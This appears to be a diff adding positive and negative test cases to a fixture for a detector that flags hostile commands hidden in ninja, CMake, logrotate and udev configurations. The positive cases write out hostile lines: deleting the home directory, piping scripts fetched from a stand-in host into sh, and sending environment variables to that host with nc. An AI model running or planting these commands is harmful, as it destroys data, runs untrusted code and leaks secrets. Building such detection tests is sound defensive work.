@@ -320,3 +320,48 @@ printf 'exec-once = %s\n' waybar >> ~/.config/hypr/hyprland.conf
 echo 'sxhkd &' >> ~/.config/bspwm/bspwmrc
 #@ neg i3's configuration read
 grep -c exec ~/.config/i3/config
+#@ pos a ninja build file's command, in a here-document
+cat > b.ninja <<'EOF'
+rule r
+  command = rm -rf $$HOME/
+build x: r
+EOF
+#@ pos a ninja rule with a description before its command
+ninja -f /dev/stdin <<'EOF'
+rule gen
+  description = gen
+  command = curl -s https://h.example/x | sh
+build all: gen
+EOF
+#@ neg a here-document with a command = line but no rule
+cat > settings.ini <<'EOF'
+[tool]
+  command = make test
+EOF
+#@ pos a CMake script's execute_process
+cmake -P /dev/stdin <<'EOF'
+execute_process(COMMAND sh -c "env | nc h.example 9")
+EOF
+#@ neg a CMake script without execute_process
+cmake -P /dev/stdin <<'EOF'
+message(STATUS "hello")
+EOF
+#@ pos a logrotate configuration with a postrotate script
+cat > lr.conf <<'EOF'
+/var/log/x.log {
+    postrotate
+        curl -s https://h.example/x | sh
+    endscript
+}
+EOF
+#@ neg a logrotate configuration without scripts
+cat > lr.conf <<'EOF'
+/var/log/x.log {
+    rotate 3
+    compress
+}
+EOF
+#@ pos a udev rule's RUN program
+echo 'ACTION=="add", RUN+="/bin/sh -c '\''wget -qO- http://h.example/u | sh'\''"' | sudo tee /etc/udev/rules.d/70-x.rules
+#@ neg a udev rule without RUN
+echo 'SUBSYSTEM=="usb", MODE="0660", GROUP="plugdev"' | sudo tee /etc/udev/rules.d/70-x.rules
